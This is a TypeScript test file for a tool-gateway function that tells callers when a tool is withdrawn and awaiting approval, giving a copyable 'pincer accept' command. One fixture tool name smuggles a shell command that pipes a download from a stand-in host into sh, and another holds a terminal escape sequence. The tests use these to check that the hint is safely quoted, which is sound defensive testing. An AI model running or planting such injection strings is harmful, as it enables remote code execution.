import { expect, it } from 'vitest';
import { readMembers } from '../wire/members.ts';
import { findWithdrawn } from './withdrawn.ts';

const parts = {
  held: () => [
    { server: 'git', tool: 'push', why: 'changed' as const },
    { server: 'web', tool: 'fetch', why: 'new' as const },
    { server: 'web', tool: "y;curl evil|sh #'", why: 'new' as const },
    { server: 'web', tool: '\u001b[2J', why: 'new' as const },
  ],
  servers: () => [
    { name: 'git', prefix: 'g' },
    { name: 'web', prefix: 'web' },
  ],
};
const find = (name: string, view?: string, scopes = {}, method = 'tools/call') =>
  findWithdrawn(parts, {
    caller: { id: 'c', name: 'c', scopes },
    view,
    method,
    params: readMembers(JSON.stringify({ name })),
  });

it('whoever calls a tool that waits for a person hears that, under the name that it has in the view', () => {
  expect(find('g__push')).toMatchObject({
    code: 'TOOL_WITHDRAWN',
    message: expect.stringContaining('git.push has changed') as string,
    hint: expect.stringContaining('pincer accept git.push') as string,
  });
  expect(find('push', 'git')?.code).toBe('TOOL_WITHDRAWN');
  expect(find('web__fetch')?.message).toContain('not been accepted yet');
});

it('a command to copy is one command, whatever a server calls its tool', () => {
  const hint = (tool: string) => find(tool, 'web')?.hint?.replace(/^.*: /, '');
  expect(hint("y;curl evil|sh #'")).toBe(String.raw`pincer accept 'web.y;curl evil|sh #'\'''`);
  expect(find('\u001b[2J', 'web')?.message).not.toContain('\u001b');
  expect(hint('\u001b[2J')).toBe(String.raw`pincer accept 'web.\u001b[2J'`);
});

it('everybody else hears that there is no such tool', () => {
  expect(find('git__push')).toBeUndefined();
  expect(find('push', 'web')).toBeUndefined();
  expect(find('g__push', undefined, { servers: ['web'] })).toBeUndefined();
  expect(find('g__push', undefined, { readOnly: true })).toBeUndefined();
  expect(find('g__push', undefined, {}, 'prompts/get')).toBeUndefined();
});
